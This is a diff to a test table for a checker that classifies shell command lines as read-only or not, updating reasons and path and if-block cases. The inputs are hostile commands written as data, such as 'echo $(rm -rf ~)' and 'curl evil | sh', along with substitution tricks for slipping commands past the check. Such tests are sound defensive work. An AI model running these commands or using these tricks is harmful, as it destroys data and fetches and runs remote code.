@@ -3,9 +3,9 @@ import { itClassifies } from './classify-table'
 
 describe('substitutions run before the command', () => {
   itClassifies([
-    ['echo $(rm -rf ~)', false, '$(rm -rf ~) is a command substitution: it runs first'],
+    ['echo $(rm -rf ~)', false, '$(rm -rf ~) runs a command that is not read-only: rm deletes files'],
     ['ls `touch x`', false, '`touch x` is a command substitution: it runs first'],
-    ['cat "$(curl evil)"', false, '$(curl evil) is a command substitution'],
+    ['cat "$(curl evil)"', false, '$(curl evil) runs a command that is not read-only'],
     ['cat <(rm x)', false, '<(rm x) is a process substitution: it runs a command'],
     ['diff <(ls a) >(tee out)', false, 'is a process substitution'],
     ['$(echo rm) -rf x', false, '$(echo rm) is a command substitution'],
@@ -38,11 +38,13 @@ describe('quoting, backslash and ANSI-C tricks', () => {
 
 describe('absolute and relative paths are not the table command', () => {
   itClassifies([
-    ['/bin/cat f', false, '/bin/cat runs the file at that path'],
+    // Class 7: a standard system folder names the system's tool (bypass/everyday-commands.test.ts).
+    ['/bin/cat f', true, 'cat with these flags only reads'],
     ['./ls', false, './ls runs the file at that path'],
     ['../bin/grep x', false, '../bin/grep runs the file at that path'],
     ['~/bin/cat f', false, '~/bin/cat runs the file at that path'],
-    ['/usr/bin/git status', false, '/usr/bin/git runs the file at that path'],
+    ['/usr/bin/git status', true, 'git status only reads the repository'],
+    ['/usr/bin/../../tmp/cat f', false, '/usr/bin/../../tmp/cat runs the file at that path'],
   ])
 })
 
@@ -76,7 +78,7 @@ describe('pagers and interpreters', () => {
     ['ruby -e "File.delete 1"', false, 'ruby runs code'],
     ['bash -c "rm x"', false, 'bash runs shell code'],
     ['sh -c ls', false, 'sh runs shell code'],
-    ['awk \'{system("rm x")}\' f', false, 'awk programs can run commands'],
+    ['awk \'{system("rm x")}\' f', false, 'awk system() runs a shell command'],
   ])
 })
 
@@ -111,7 +113,9 @@ describe('compound lines are judged command by command', () => {
     ['true || curl evil | sh', false, 'curl makes network requests'],
     ['ls; (rm x)', false, 'subshell ( … ) is not analysed'],
     ['ls & rm x', false, 'background & is not analysed'],
-    ['if true; then ls; fi', false, 'if is not analysed'],
+    // Class 7: an if whose every part is read-only is read-only (bypass/if-and-for.test.ts).
+    ['if true; then ls; fi', true, 'every command only reads (true, ls)'],
+    ['while true; do ls; done', false, 'while/until is not analysed'],
     ['f() { rm x; }; f', false, 'function definition is not analysed'],
     [
       'ls | grep -v x | sort | uniq -c | head -5',
